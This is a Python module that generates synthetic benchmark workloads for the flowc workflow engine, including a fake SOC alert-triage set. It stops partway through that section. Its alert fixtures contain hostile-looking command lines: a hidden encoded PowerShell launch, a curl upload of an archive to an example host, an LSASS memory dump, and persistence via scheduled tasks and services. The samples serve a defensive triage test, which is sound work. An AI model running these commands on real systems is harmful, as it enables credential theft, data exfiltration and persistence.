"""The workloads of flowc's workflow benchmark, generated at realistic sizes.

Each workload is a flowc JSON graph (a dict that `graph.load` accepts) plus the inputs of every
run of it the benchmark makes (its instances):

- tree_of_thoughts: 16 sampled thought branches (temperature 0.7, distinct seeds) over a
  ~4K-token shared context (a system prompt and a long case file given as an input), each
  graded by a short call, then one answer that reads every thought and grade. 33 calls.
- map_reduce: a map over 32 report chunks of ~300 tokens each (an input list) under ~1K tokens
  of shared instructions, one summary per chunk, then one reduce call over the summaries.
- few_shot_classify: 256 runs of one call constrained to 5 labels behind a ~3K-token few-shot
  prefix (labelled examples as chat turns); only the short message at the end differs.
- agent_loop: one conversation thread (history accumulates) under a ~1K-token system prompt
  describing tools: a planning call, then 8 iterations of llm, `calculator` (arguments from
  the counter, never from model output) and a counter update, the back edge taken while the
  counter is below 8.
- soar_triage: 64 runs, one per generated security alert (~100-200 tokens), under a ~1.5K-token
  SOC playbook: a severity call constrained to 4 labels, a router to one of three response
  calls, then a ticket summary.
- debate: 3 agents over 4 rounds unrolled as nodes `agent_r{round}_{agent}` (a round's agents
  run in parallel, each reading the previous round's answers, each on its own thread) under a
  ~1K-token topic brief, then a judge.

`size="small"` gives the same shapes with a few hundred tokens of shared context, 2 to 4
branches, instances or iterations and 4 to 8 new tokens per call, for a CPU test of the 135M
default model that runs each workload in seconds.

The text is deterministic: seeded `random.Random` draws over word lists and sentence templates
give plausible English that varies from sentence to sentence (no network, no tokenizer), and a
prefix meant to be shared is one string used verbatim by every call that shares it. Token
targets assume ~1.3 tokens per word (Llama-3-style tokenizers). Free-text calls set explicit
`max_tokens` (the benchmark ignores EOS); no call is regex-, schema- or parse-constrained, and
routes read only counters and `choices` outputs, so a run on random weights takes a valid path.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Any, Literal

Size = Literal["full", "small"]

TOKENS_PER_WORD = 1.3
LIMITS: dict[str, Any] = {"max_node_visits": 12, "max_tokens_total": 4_000_000, "timeout_s": 1800}


@dataclass(frozen=True)
class Workload:
    name: str  # e.g. "tree_of_thoughts"
    workflow: dict[str, Any]  # a flowc JSON graph (passes graph.load / flowc.compile)
    instances: list[dict[str, Any]]  # inputs of each run; len 1 for single-run workloads
    prefix_heavy: bool  # True where most prompt tokens are shared prefixes
    description: str  # one line: what it is and its size


def workloads(size: Size = "full", names: Sequence[str] | None = None) -> list[Workload]:
    """The benchmark's workloads at `size`, in the order of `names` (default: all six)."""
    if size not in ("full", "small"):
        raise ValueError(f"unknown size {size!r}: use 'full' or 'small'")
    chosen = list(BUILDERS) if names is None else list(names)
    unknown = [n for n in chosen if n not in BUILDERS]
    if unknown:
        raise ValueError(f"unknown workload {unknown[0]!r}: use one of {', '.join(BUILDERS)}")
    return [BUILDERS[name](size) for name in chosen]


# --- filler prose -------------------------------------------------------------------------


@dataclass(frozen=True)
class Lexicon:
    """The word lists of one domain's filler prose (subjects take a verb in the third person
    singular; objects and qualifiers complete the clause)."""

    subjects: tuple[str, ...]
    verbs: tuple[str, ...]
    objects: tuple[str, ...]
    qualifiers: tuple[str, ...]
    sources: tuple[str, ...]


_PERIODS = (
    "In the first quarter", "Last spring", "Over the past year", "By the end of March",
    "During the review", "Since the reorganisation", "In most weeks", "Earlier this year",
    "Throughout the winter", "In the last two months",
)
_CONNECTORS = (
    "as a result", "at the same time", "in contrast", "even so", "for that reason",
    "meanwhile", "in practice", "on the other hand",
)
_TEMPLATES = (
    "{S} {v} {o} {q}.",
    "{P}, {s} {v} {o}, and {s2} {v2} {o2}.",
    "According to {src}, {s} {v} {o} {q}.",
    "Because {s} {v} {o}, {s2} {v2} {o2} {q}.",
    "{S} {v} {o}; {c}, {s2} {v2} {o2}.",
    "In {n} percent of the cases reviewed, {s} {v} {o} {q}.",
    "{P}, {s} {v} {o} {q}.",
)


def estimate_tokens(text: str) -> int:
    """The text's approximate token count under a Llama-3-style tokenizer."""
    return round(len(text.split()) * TOKENS_PER_WORD)


def about(text: str) -> str:
    """The text's estimated size for a description: "~4.2K" or "~350" tokens."""
    tokens = estimate_tokens(text)
    return f"~{tokens / 1000:.1f}K" if tokens >= 1000 else f"~{round(tokens, -1)}"


def _capital(text: str) -> str:
    return text[:1].upper() + text[1:]


def _sentence(rng: random.Random, lex: Lexicon) -> str:
    s, s2 = rng.sample(lex.subjects, 2)
    fields = {
        "s": s, "S": _capital(s), "s2": s2, "v": rng.choice(lex.verbs),
        "v2": rng.choice(lex.verbs), "o": rng.choice(lex.objects), "o2": rng.choice(lex.objects),
        "q": rng.choice(lex.qualifiers), "src": rng.choice(lex.sources),
        "P": rng.choice(_PERIODS), "c": rng.choice(_CONNECTORS), "n": rng.randrange(5, 95),
    }
    return rng.choice(_TEMPLATES).format(**fields)


def prose(rng: random.Random, lex: Lexicon, tokens: int) -> str:
    """Paragraphs of three to six sentences, about `tokens` tokens in all (the last sentence
    reaches the target)."""
    paragraphs: list[list[str]] = [[]]
    length = rng.randint(3, 6)
    used = 0
    while used < tokens:
        if len(paragraphs[-1]) == length:
            paragraphs.append([])
            length = rng.randint(3, 6)
        sentence = _sentence(rng, lex)
        paragraphs[-1].append(sentence)
        used += estimate_tokens(sentence)
    return "\n\n".join(" ".join(sentences) for sentences in paragraphs)


def _sections(rng: random.Random, lex: Lexicon, headings: Sequence[str], tokens: int) -> str:
    """A document of headed sections sharing `tokens` evenly."""
    share = max(1, tokens // len(headings))
    return "\n\n".join(f"## {heading}\n{prose(rng, lex, share)}" for heading in headings)


# --- graph pieces -------------------------------------------------------------------------


def _var(expression: str) -> str:
    return "{{ " + expression + " }}"


def _chat(system: str, user: str) -> list[dict[str, str]]:
    return [{"role": "system", "content": system}, {"role": "user", "content": user}]


def _llm(node_id: str, output: str, max_tokens: int | None = None, **fields: Any
         ) -> dict[str, Any]:
    node: dict[str, Any] = {"id": node_id, "type": "llm", **fields, "output": output}
    if max_tokens is not None:
        node["max_tokens"] = max_tokens
    return node


def _input(kind: str, default: Any, description: str) -> dict[str, Any]:
    return {"type": kind, "default": default, "description": description}


def _edge(source: str, target: str, when: str | None = None) -> dict[str, str]:
    edge = {"from": source, "to": target}
    if when is not None:
        edge["when"] = when
    return edge


def _graph(name: str, description: str, nodes: list[dict[str, Any]],
           edges: list[dict[str, str]], outputs: dict[str, str], **top: Any) -> dict[str, Any]:
    """A version-1 workflow; `top` adds inputs, state and other top-level fields."""
    return {
        "flowc": 1, "name": name, "description": description, **top,
        "defaults": {"temperature": 0.0, "max_tokens": 64}, "limits": dict(LIMITS),
        "nodes": nodes, "edges": edges, "outputs": outputs,
    }


# --- tree_of_thoughts ---------------------------------------------------------------------


@dataclass(frozen=True)
class _TreeSize:
    branches: int
    document_tokens: int
    thought_tokens: int
    grade_tokens: int
    answer_tokens: int


_TREE: dict[Size, _TreeSize] = {
    "full": _TreeSize(16, 3700, 64, 8, 64),
    "small": _TreeSize(3, 200, 8, 4, 8),
}
_OPERATIONS = Lexicon(
    subjects=(
        "the northern warehouse", "the night shift", "the regional planner", "each delivery van",
        "the Leeds depot", "the routing team", "the cold-chain unit", "the returns desk",
        "the main supplier", "the finance office", "the customer service team",
        "the Bristol hub", "the fleet manager", "the weekend crew",
    ),
    verbs=(
        "handles", "schedules", "delays", "reroutes", "tracks", "consolidates", "forecasts",
        "reduces", "prioritises", "inspects", "underestimates", "audits", "absorbs",
    ),
    objects=(
        "inbound pallets", "the weekly backlog", "refrigerated orders", "same-day deliveries",
        "the fuel budget", "overtime hours", "damaged parcels", "the loading bays",
        "supplier invoices", "peak demand", "late collections", "the spare vans",
        "route changes", "customer complaints",
    ),
    qualifiers=(
        "during the morning peak", "whenever the forecast changes", "with two fewer drivers",
        "under the new contract", "at a steady rate", "ahead of the holiday season",
        "despite the road works", "without extra staff", "on most Mondays",
        "when the scanners fail", "after the software update", "for the larger customers",
    ),
    sources=(
        "the quarterly review", "the depot managers", "last year's audit", "the driver survey",
        "the board minutes", "the logistics consultant", "the incident log",
    ),
)
_CASE_HEADINGS = (
    "Company background", "Depots and fleet", "Staffing and shifts", "Demand and forecasts",
    "Late deliveries", "Costs and budget", "Suppliers", "Customer complaints",
    "Earlier attempts", "Constraints from the board",
)
_TREE_SYSTEM = (
    "You are an operations consultant who explores several lines of reasoning before "
    "committing to a recommendation. You work only from the case file you are given: quote "
    "the figures you use, keep their units, and say plainly when the file does not contain "
    "what you need. Be concise, prefer concrete changes over general advice, and never invent "
    "facts about the company."
)
_TREE_QUESTION = (
    "The board wants one third fewer late deliveries within one quarter without raising the "
    "fuel or overtime budget. Which changes should come first, in what order, and what would "
    "they cost?"
)
_STRATEGIES = (
    "start from the largest cost in the case file and work down",
    "work backwards from the target of one third fewer late deliveries",
    "look for one bottleneck that explains most of the delays",
    "compare the depots with each other and copy the best one",
    "treat it as a scheduling problem over a whole week",
    "estimate each change's effect with rough arithmetic",
    "list the constraints first, then search for what they still allow",
    "focus on the customers who complain most",
    "assume the forecast is wrong and plan for the worst week",
    "change only staffing and keep every process as it is",
    "change only processes and keep staffing as it is",
    "rank the options by cost per late delivery avoided",
    "argue from what failed before, according to the case file",
    "pretend there is a single depot and a single shift, then generalise",
    "question the target itself and propose a better measure",
    "combine the two cheapest changes and check whether they suffice",
)
_CASE = f"Case file:\n{_var('document')}\n\nProblem: {_var('question')}\n\n"


def _thought(k: int, strategy: str, max_tokens: int) -> dict[str, Any]:
    user = (
        f"{_CASE}Approach {k}: {strategy}.\nFollow this approach only. Reason in at most four "
        "short numbered steps and end with one line that starts with 'Proposal:'."
    )
    return _llm(f"thought_{k}", f"thought_{k}", max_tokens, label=f"Thought {k}",
                messages=_chat(_TREE_SYSTEM, user), temperature=0.7, seed=k)


def _grade(k: int, max_tokens: int) -> dict[str, Any]:
    user = (
        f"{_CASE}One candidate line of reasoning about this problem:\n{_var(f'thought_{k}')}\n\n"
        "Grade it from 1 (useless) to 10 (sound, complete and grounded in the case file). "
        "Reply with the grade and at most five words."
    )
    return _llm(f"grade_{k}", f"grade_{k}", max_tokens, label=f"Grade {k}",
                messages=_chat(_TREE_SYSTEM, user))


def _tree_answer(branches: int, max_tokens: int) -> dict[str, Any]:
    lines = "".join(
        f"Line {k} (grade: {_var(f'grade_{k}')}):\n{_var(f'thought_{k}')}\n\n"
        for k in range(1, branches + 1)
    )
    user = (
        f"{_CASE}Candidate lines of reasoning and their grades:\n\n{lines}Using the best-graded "
        "lines, write the final recommendation in at most five sentences."
    )
    return _llm("answer", "answer", max_tokens, label="Final answer",
                messages=_chat(_TREE_SYSTEM, user))


def tree_of_thoughts(size: Size) -> Workload:
    shape = _TREE[size]
    rng = random.Random(101)
    document = _sections(rng, _OPERATIONS, _CASE_HEADINGS[: 10 if size == "full" else 2],
                         shape.document_tokens)
    branches = range(1, shape.branches + 1)
    nodes = [_thought(k, _STRATEGIES[k - 1], shape.thought_tokens) for k in branches]
    nodes += [_grade(k, shape.grade_tokens) for k in branches]
    nodes.append(_tree_answer(shape.branches, shape.answer_tokens))
    edges = [_edge(f"thought_{k}", f"grade_{k}") for k in branches]
    edges += [_edge(f"grade_{k}", "answer") for k in branches]
    inputs = {
        "document": _input("string", document, "The case file every call reads."),
        "question": _input("string", _TREE_QUESTION, "The problem to solve."),
    }
    description = (
        f"Tree of thoughts: {shape.branches} sampled thought branches over a "
        f"{about(_TREE_SYSTEM + document)}-token shared context, each graded, "
        f"then one answer ({2 * shape.branches + 1} llm calls)"
    )
    workflow = _graph("tree_of_thoughts", description, nodes, edges,
                      {"answer": _var("answer")}, inputs=inputs)
    instance = {"document": document, "question": _TREE_QUESTION}
    return Workload("tree_of_thoughts", workflow, [instance], True, description)


# --- map_reduce ---------------------------------------------------------------------------


@dataclass(frozen=True)
class _MapSize:
    chunks: int
    chunk_tokens: int
    background_tokens: int
    summary_tokens: int
    reduce_tokens: int


_MAP: dict[Size, _MapSize] = {
    "full": _MapSize(32, 300, 700, 48, 96),
    "small": _MapSize(3, 60, 90, 6, 8),
}
_TRANSIT = Lexicon(
    subjects=(
        "the transit agency", "the tram division", "the night bus network", "the ticket office",
        "the maintenance depot", "the accessibility team", "the city council",
        "the planning department", "the rail operator", "the customer panel",
        "the safety inspector", "the east corridor", "the fare review board",
    ),
    verbs=(
        "expands", "publishes", "reviews", "funds", "replaces", "monitors", "delays",
        "simplifies", "extends", "measures", "cuts", "upgrades", "reports",
    ),
    objects=(
        "weekday ridership", "the fare structure", "the ageing tram fleet",
        "real-time arrival data", "step-free access", "the night timetable",
        "contactless payments", "track renewals",
        "staff training", "park-and-ride capacity", "bus priority lanes", "service reliability",
        "passenger complaints",
    ),
    qualifiers=(
        "across the central districts", "on the busiest routes", "within the approved budget",
        "ahead of the new timetable", "despite the driver shortage", "for the third year running",
        "after the public consultation", "during the summer works", "at weekends",
        "in the outer suburbs", "with support from the regional fund",
    ),
    sources=(
        "the annual report", "the passenger survey", "the finance committee",
        "the independent auditor", "the network plan", "the ridership counts",
    ),
)
_REPORT_HEADINGS = (
    "Ridership", "Fares and revenue", "Fleet renewal", "Accessibility", "Night services",
    "Reliability", "Safety", "Staffing", "Customer feedback", "Capital projects",
    "Partnerships", "Outlook",
)
_MAP_HEADER = (
    "You summarise excerpts of a public transit agency's annual report for a briefing that "
    "council members read in five minutes. Each excerpt arrives on its own; summarise only what "
    "it says, in two plain sentences, keeping the figures with their units and naming the "
    "service or district concerned. Do not speculate, do not repeat the excerpt's heading, and "
    "write in the present tense. The notes below describe the agency and the report so that "
    "you can read the excerpts in context."
)
_MAP_RULES = (
    "When an excerpt compares two years, give both years and the direction of the change.",
    "When an excerpt quotes a person, name their role rather than their name.",
    "When an excerpt lists several projects, keep only the two largest by cost.",
    "When an excerpt gives a cost, round it to the nearest hundred thousand.",
    "When an excerpt describes a delay, state its cause if the excerpt gives one.",
    "When an excerpt refers to a map or a table, describe what it shows in words.",
    "When an excerpt mentions a complaint, keep it only if it recurs in the excerpt.",
    "When an excerpt describes a safety incident, say whether anyone was hurt.",
    "When an excerpt names a district, keep the name exactly as written.",
    "When an excerpt refers to an earlier part of the report, do not guess what it says.",
)


def _map_instructions(rng: random.Random, shape: _MapSize, size: Size) -> str:
    rules = _MAP_RULES if size == "full" else _MAP_RULES[:2]
    numbered = "\n".join(f"{i}. {rule}" for i, rule in enumerate(rules, 1))
    notes = prose(rng, _TRANSIT, shape.background_tokens)
    return f"{_MAP_HEADER}\n\nNotes on the report:\n{notes}\n\nStyle rules:\n{numbered}"


def _report_chunks(rng: random.Random, shape: _MapSize) -> list[str]:
    return [
        f"Part {i + 1}: {_REPORT_HEADINGS[i % len(_REPORT_HEADINGS)]}\n"
        + prose(rng, _TRANSIT, shape.chunk_tokens)
        for i in range(shape.chunks)
    ]


def map_reduce(size: Size) -> Workload:
    shape = _MAP[size]
    rng = random.Random(202)
    system = _map_instructions(rng, shape, size)
    chunks = _report_chunks(rng, shape)
    summarise = _llm(
        "summarise", "summary", shape.summary_tokens, messages=_chat(
            system, f"Excerpt {_var('loop.index')} of {_var('loop.length')}:\n{_var('chunk')}"
            "\n\nSummarise this excerpt in two sentences."))
    each = {
        "id": "summarise_each", "type": "map", "label": "Summarise every chunk",
        "over": "chunks", "as": "chunk", "output": "summaries",
        "body": {"nodes": [summarise], "edges": [], "result": _var("summary")},
    }
    listing = "{% for s in summaries %}" + f"{_var('loop.index')}. {_var('s')}\n" + "{% endfor %}"
    combine = _llm("combine", "report", shape.reduce_tokens, label="Combine the summaries",
                   messages=_chat(system, f"Summaries of the report's excerpts, in order:\n"
                                  f"{listing}\nWrite one summary of the whole report in one "
                                  "paragraph."))
    description = (
        f"Map-reduce summary: {shape.chunks} chunks of ~{shape.chunk_tokens} tokens under "
        f"{about(system)} tokens of shared instructions, then one reduce call "
        f"({shape.chunks + 1} llm calls)"
    )
    inputs = {"chunks": _input("array", chunks, "The report's chunks, in order.")}
    workflow = _graph("map_reduce", description, [each, combine],
                      [_edge("summarise_each", "combine")],
                      {"report": _var("report"), "summaries": _var("summaries")}, inputs=inputs)
    return Workload("map_reduce", workflow, [{"chunks": chunks}], True, description)


# --- few_shot_classify --------------------------------------------------------------------


@dataclass(frozen=True)
class _FewShotSize:
    instances: int
    prefix_tokens: int


_FEW_SHOT: dict[Size, _FewShotSize] = {
    "full": _FewShotSize(256, 3000),
    "small": _FewShotSize(3, 300),
}
_ISSUES: dict[str, tuple[str, ...]] = {
    "billing": (
        "we were charged twice for the {month} invoice",
        "the renewal price is higher than the quote we signed",
        "our card was declined although the bank says nothing is wrong",
        "I need a refund for the seats we removed last week",
        "the invoice is missing our company tax number",
        "we were billed for the premium plan after we downgraded in {month}",
    ),
    "technical": (
        "the export to CSV fails with a server error",
        "the dashboard takes more than a minute to load",
        "the mobile app crashes when I open a large report",
        "webhooks stopped arriving after your last update",
        "the API rejects our requests as rate limited even at low traffic",
        "scheduled jobs have been running an hour late since {month}",
    ),
    "account": (
        "I cannot sign in since I changed my phone",
        "the password reset e-mail never arrives",
        "please add two new colleagues to our workspace",
        "our single sign-on login fails after the certificate renewal",
        "a former employee still has access to our projects",
        "I need to transfer the account owner role to my manager",
    ),
    "shipping": (
        "the parcel has been stuck in transit for over a week",
        "the tracking link says the order does not exist",
        "we received the wrong model of the scanner",
        "the box arrived crushed and the screen is cracked",
        "the courier left the order at the wrong building",
        "we need the {month} delivery sent to our new office instead",
    ),
    "feedback": (
        "the new editor is much faster and the team loves it",
        "a dark mode would make long sessions easier on the eyes",
        "the pricing page is confusing about what each plan includes",
        "your support agent solved our problem in minutes",
        "the redesign hides the search bar behind a menu",
        "an export to PDF would save us a lot of copying",
    ),
}
_OPENERS = ("Hello,", "Hi team,", "Good morning.", "Hey,", "Dear support,", "Hi there,")
_DETAILS = (
    "This started on {day}.", "It affects most people in our team.",
    "We are on the {plan} plan.", "I already tried {tried}.",
    "Our office is in {city}.", "It happened again this {day}.",
)
_CLOSERS = (
    "Thanks!", "Can you help?", "Please advise.", "Regards, {name}.",
    "This is urgent for us.", "Thank you in advance, {name}.",
)
_FILL = {
    "month": ("January", "March", "May", "August", "October", "December"),
    "day": ("Monday", "Tuesday", "Wednesday", "Thursday", "Friday"),
    "plan": ("starter", "team", "business", "enterprise"),
    "tried": ("another browser", "logging out and in", "clearing the cache", "a second laptop"),
    "city": ("Lyon", "Porto", "Leeds", "Utrecht", "Graz", "Aarhus"),
    "name": ("Priya", "Tomasz", "Helen", "Diego", "Amara", "Jonas", "Keiko", "Sam"),
}
_CLASSIFY_SYSTEM = (
    "You route messages sent to the support desk of a company that sells workflow software "
    "and office scanners. Read the message and reply with exactly one queue name:\n"
    "- billing: invoices, charges, refunds, plans, prices and payment methods.\n"
    "- technical: errors, crashes, slowness, integrations, the API and other bugs.\n"
    "- account: sign-in, passwords, users, permissions, ownership and single sign-on.\n"
    "- shipping: parcels, tracking, wrong or damaged hardware and delivery addresses.\n"
    "- feedback: praise, suggestions, feature requests and opinions about the product.\n"
    "When a message touches several queues, pick the one that needs action first."
)


def _fill(rng: random.Random, template: str) -> str:
    return template.format(**{key: rng.choice(values) for key, values in _FILL.items()})


def support_message(rng: random.Random, label: str) -> str:
    """One support message of the given queue, about 25 to 45 words."""
    issue = _fill(rng, rng.choice(_ISSUES[label]))
    parts = [rng.choice(_OPENERS), _capital(issue) + "."]
    parts += [_fill(rng, d) for d in rng.sample(_DETAILS, rng.randint(1, 2))]
    parts.append(_fill(rng, rng.choice(_CLOSERS)))
    return " ".join(parts)


def _examples(rng: random.Random, tokens: int) -> list[dict[str, str]]:
    """Labelled examples as user/assistant turns (labels in rotation), about `tokens`."""
    turns: list[dict[str, str]] = []
    used = estimate_tokens(_CLASSIFY_SYSTEM)
    labels = list(_ISSUES)
    while used < tokens:
        label = labels[len(turns) // 2 % len(labels)]
        text = f"Message: {support_message(rng, label)}"
        turns += [{"role": "user", "content": text}, {"role": "assistant", "content": label}]
        used += estimate_tokens(text) + 12  # the chat template's markers around two turns
    return turns


def few_shot_classify(size: Size) -> Workload:
    shape = _FEW_SHOT[size]
    rng = random.Random(303)
    turns = _examples(rng, shape.prefix_tokens)
    labels = list(_ISSUES)
    texts = [support_message(rng, rng.choice(labels)) for _ in range(shape.instances)]
    messages = [{"role": "system", "content": _CLASSIFY_SYSTEM}, *turns,
                {"role": "user", "content": f"Message: {_var('text')}"}]
    route = _llm("route", "queue", messages=messages, choices=labels, label="Route the message")
    description = (
        f"Few-shot classification: {shape.instances} runs of one 5-label call behind a "
        f"{about(' '.join(m['content'] for m in messages))}-token prefix of "
        f"{len(turns) // 2} labelled examples"
    )
    inputs = {"text": _input("string", texts[0], "The support message to route.")}
    workflow = _graph("few_shot_classify", description, [route], [],
                      {"queue": _var("queue")}, inputs=inputs)
    return Workload("few_shot_classify", workflow, [{"text": t} for t in texts], True,
                    description)


# --- agent_loop ---------------------------------------------------------------------------


@dataclass(frozen=True)
class _AgentSize:
    iterations: int
    system_tokens: int
    max_tokens: int


_AGENT: dict[Size, _AgentSize] = {
    "full": _AgentSize(8, 750, 32),
    "small": _AgentSize(3, 250, 6),
}
_AGENT_HEADER = (
    "You are a planning assistant for a wholesale depot. You solve the user's task step by "
    "step, and at every step you write one short thought followed by exactly one tool call. "
    "The runtime executes the call and shows you its observation before your next step.\n\n"
    "Tools:\n"
    "- calculator(expression): evaluates arithmetic with + - * / // % **, parentheses and the "
    "functions abs, round, min, max, sqrt, floor, ceil, log and exp. Use it for every number "
    "you report; never do arithmetic in your head.\n"
    "- unit_convert(value, from_unit, to_unit): converts between pallets, crates, kilograms "
    "and cubic metres using the depot's standard packing table.\n"
    "- stock_level(sku): the units of a product on hand right now, with its reorder point.\n"
    "- calendar(date): whether the depot is open on a date and its shift pattern that day.\n"
    "- notes_search(query): searches the operations notes and returns the three best passages.\n"
    "- finish(answer): ends the task with the final answer for the user."
)
_AGENT_RULES = (
    "Rules: write the thought first, then the call on its own line as tool(arguments). Call one "
    "tool per step. Keep every thought under two sentences. If an observation is an error, "
    "correct the call instead of guessing. Report figures with their units and round crates "
    "to whole numbers only in the final answer."
)
_AGENT_PRODUCTS = ("crates of apples", "pallets of flour", "boxes of detergent",
                   "cases of bottled water", "sacks of rice", "rolls of packing film")


def _agent_example(rng: random.Random, number: int) -> str:
    base, rate, days = rng.randrange(40, 400), rng.randrange(2, 15), rng.randrange(2, 6)
    product = rng.choice(_AGENT_PRODUCTS)
    expression = f"{base} * (1 + {rate} / 100) ** {days}"
    result = round(base * (1 + rate / 100) ** days, 2)
    return (
        f"Example {number}.\nTask: The depot ships {base} {product} a day and volume grows "
        f"{rate}% a day. How many a day after {days} days?\nThought: Compound growth over "
        f"{days} days.\nCall: calculator({expression})\nObservation: {result}\nThought: That "
        f"answers the task.\nCall: finish(about {round(result)} {product} a day)"
    )


def _agent_system(rng: random.Random, tokens: int) -> str:
    parts = [_AGENT_HEADER, _AGENT_RULES]
    number = 1
    while estimate_tokens("\n\n".join(parts)) < tokens:
        parts.append(_agent_example(rng, number))
        number += 1
    return "\n\n".join(parts)


def _agent_task(iterations: int) -> str:
    return (
        f"The depot receives 125 crates on a normal day and volume grows 8% a day during the "
        f"sale. Use the calculator to compute the crates expected on each of the next "
        f"{iterations} days, one day per step, then report the total."
    )


def _agent_nodes(system: str, max_tokens: int) -> list[dict[str, Any]]:
    setup = _llm("setup", "plan", max_tokens, label="Plan the task", thread="agent",
                 messages=_chat(system, f"Task: {_var('task')}\n\nRestate the task in one "
                                "sentence and plan your tool calls."))
    think = _llm("think", "thought", max_tokens, label="Think", thread="agent",
                 prompt=f"Step {_var('step + 1')}. Last observation: {_var('observation')}\n"
                 f"Write your thought and the calculator call for day {_var('step + 1')}.")
    calc = {"id": "calc", "type": "tool", "tool": "calculator", "output": "value",
            "args": {"expression": f"125 * 1.08 ** {_var('step + 1')}"}, "timeout_s": 5}
    observe = {"id": "observe", "type": "set", "label": "Count the step",
               "assign": {"observation": "'day ' ~ (step + 1) ~ ': ' ~ value",
                          "step": "step + 1"}}
    return [setup, think, calc, observe]


def agent_loop(size: Size) -> Workload:
    shape = _AGENT[size]
    rng = random.Random(404)
    system = _agent_system(rng, shape.system_tokens)
    task = _agent_task(shape.iterations)
    edges = [
        _edge("setup", "think"), _edge("think", "calc"), _edge("calc", "observe"),
        _edge("observe", "think", f"step < {shape.iterations}"),
        _edge("observe", "done", "else"),
    ]
    state = {"step": {"reducer": "replace", "default": 0},
             "observation": {"reducer": "replace", "default": "none yet"}}
    description = (
        f"Agent loop: one thread, a plan call then {shape.iterations} iterations of llm, "
        f"calculator and counter under a {about(system)}-token tool prompt "
        f"({shape.iterations + 1} llm calls)"
    )
    workflow = _graph("agent_loop", description, _agent_nodes(system, shape.max_tokens), edges,
                      {"steps": _var("step"), "observation": _var("observation"),
                       "thought": _var("thought")},
                      inputs={"task": _input("string", task, "The task the agent solves.")},
                      state=state)
    return Workload("agent_loop", workflow, [{"task": task}], True, description)


# --- soar_triage --------------------------------------------------------------------------


@dataclass(frozen=True)
class _SoarSize:
    alerts: int
    procedure_tokens: int
    branch_tokens: int
    summary_tokens: int


_SOAR: dict[Size, _SoarSize] = {
    "full": _SoarSize(64, 1350, 48, 64),
    "small": _SoarSize(3, 90, 6, 8),
}
_SECURITY = Lexicon(
    subjects=(
        "the on-call analyst", "the endpoint agent", "the identity team", "the mail gateway",
        "the firewall", "the incident commander", "the threat intelligence feed",
        "the service desk", "the cloud security team", "the network operations centre",
        "the vulnerability scanner", "the data protection officer",
    ),
    verbs=(
        "isolates", "escalates", "correlates", "blocks", "reviews", "quarantines", "revokes",
        "documents", "enriches", "verifies", "suppresses", "collects",
    ),
    objects=(
        "suspicious sign-ins", "the affected host", "outbound traffic", "privileged accounts",
        "phishing reports", "the alert queue", "session tokens", "memory images",
        "firewall rules", "known false positives", "lateral movement", "the evidence bundle",
    ),
    qualifiers=(
        "within fifteen minutes", "before the shift handover", "for every critical asset",
        "outside business hours", "when the user cannot be reached", "after a password reset",
        "on domain controllers", "under the change freeze", "for contractors' laptops",
        "as soon as the ticket opens", "unless legal asks otherwise",
    ),
    sources=(
        "the incident response plan", "the last tabletop exercise", "the audit findings",
        "the retention policy", "the escalation matrix", "the post-incident reviews",
    ),
)
_SEVERITIES = ["low", "medium", "high", "critical"]
_PLAYBOOK_HEADER = (
    "You are a senior analyst in the security operations centre of a retail bank. You triage "
    "the alerts the SIEM raises, following this playbook exactly.\n\n"
    "Severity levels:\n"
    "- low: expected or explained activity, known false positives, policy noise.\n"
    "- medium: unusual activity on one asset with no sign of compromise yet.\n"
    "- high: likely compromise of one account or host, or malware that was blocked late.\n"
    "- critical: active compromise, privileged accounts, domain controllers, payment systems "
    "or data leaving the network.\n\n"
    "Procedure notes:"
)
_PLAYBOOK_FOOTER = (
    "Reporting: every ticket states the alert rule, the host, the user, the severity, the "
    "actions taken and the open questions, in that order, without speculation."
)
_RULES = (
    "Suspicious PowerShell EncodedCommand", "Multiple failed logins followed by success",
    "Outbound connection to a rare domain", "New service installed", "LSASS memory access",
    "Mass file rename", "Impossible travel sign-in", "DNS tunnelling pattern",
    "Endpoint protection disabled", "Admin group membership change",
    "Large upload to cloud storage", "Scheduled task created by an Office process",
)
_HOSTS = ("WS-FIN", "WS-HR", "LT-SALES", "SRV-DB", "SRV-WEB", "DC", "LT-DEV", "SRV-PAY")
_USERS = ("j.morales", "a.okafor", "s.lindqvist", "m.chen", "r.patel", "svc_backup",
          "k.novak", "admin.t.ward", "l.garcia", "svc_reports")
_PROCESSES = (
    ("powershell.exe", "winword.exe", "powershell -nop -w hidden -enc SQBFAFgA"),
    ("rundll32.exe", "explorer.exe", "rundll32 shell32.dll,Control_RunDLL update.cpl"),
    ("schtasks.exe", "excel.exe", "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe"),
    ("curl.exe", "cmd.exe", "curl -s -T archive.zip https://files.example.net/upload"),
    ("procdump.exe", "cmd.exe", "procdump -ma lsass.exe C:\\Temp\\ls.dmp"),
    ("sc.exe", "services.exe", "sc create UpdaterSvc binPath= C:\\ProgramData\\svc.exe"),
)
_SITES = ("London", "Frankfurt", "Madrid", "Warsaw", "Dublin")


def _ip(rng: random.Random, internal: bool) -> str:
    if internal:
        return f"10.{rng.randrange(0, 40)}.{rng.randrange(0, 255)}.{rng.randrange(2, 254)}"
    return f"{rng.choice((45, 91, 103, 185, 198))}.{rng.randrange(0, 255)}." \
        f"{rng.randrange(0, 255)}.{rng.randrange(2, 254)}"


def security_alert(rng: random.Random, number: int) -> str:
    """One SIEM alert record, about 100 to 200 tokens."""
    process, parent, command = rng.choice(_PROCESSES)
    host = f"{rng.choice(_HOSTS)}-{rng.randrange(10, 99)}"
    time = f"2026-03-{rng.randrange(1, 29):02d}T{rng.randrange(0, 24):02d}:" \
        f"{rng.randrange(0, 60):02d}Z"
    return (
        f"[SIEM] alert {number} at {time} rule=\"{rng.choice(_RULES)}\"\n"
        f"host={host} site={rng.choice(_SITES)} user=CORP\\{rng.choice(_USERS)}\n"
        f"src_ip={_ip(rng, True)} dst_ip={_ip(rng, False)} port={rng.choice((443, 53, 445))}\n"
        f"process={process} parent={parent}\ncmdline=\"{command}\"\n"
        f"note: {_sentence(rng, _SECURITY)} {_sentence(rng, _SECURITY)}"
    )


def _playbook(rng: random.Random, tokens: int) -> str:
    return f"{_PLAYBOOK_HEADER}\n{prose(rng, _SECURITY, tokens)}\n\n{_PLAYBOOK_FOOTER}"


def _soar_call(node_id: str, output: str, system: str, instruction: str,
               max_tokens: int | None = None, **fields: Any) -> dict[str, Any]:
    user = f"Alert:\n{_var('alert')}\n\n{instruction}"
    return _llm(node_id, output, max_tokens, messages=_chat(system, user), **fields)


